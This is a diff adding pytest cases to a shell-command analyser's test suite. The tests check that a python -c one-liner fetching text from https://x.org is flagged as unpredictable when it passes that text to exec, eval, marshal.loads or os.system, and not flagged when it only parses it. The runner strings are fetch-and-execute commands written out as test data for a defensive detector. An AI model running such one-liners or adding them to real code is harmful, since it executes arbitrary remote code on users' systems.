@@ -158,3 +158,19 @@ def test_values_of_constants(text: str, language: str, value: str | list[str]) -
 def test_statements_are_code(text: str, code: str) -> None:
     """What a database is told stands in `code`, from an option, an operand or the input."""
     assert code in {one for command in read_line(text).commands for one in command.code}
+
+
+@pytest.mark.parametrize("reader", ["json.load", "json.loads", "yaml.safe_load", "re.compile"])
+def test_what_is_only_parsed_is_not_run(reader: str) -> None:
+    """A text from the network that is read as data hides no command."""
+    line = read_line(f"python -c \"{reader}(urllib.request.urlopen('https://x.org').read())\"")
+
+    assert line.blind is None
+
+
+@pytest.mark.parametrize("runner", ["exec", "eval", "marshal.loads", "os.system"])
+def test_what_is_run_from_the_network_blinds(runner: str) -> None:
+    """A text from the network that is run may be any command."""
+    line = read_line(f"python -c \"{runner}(urllib.request.urlopen('https://x.org').read())\"")
+
+    assert line.blind is not None
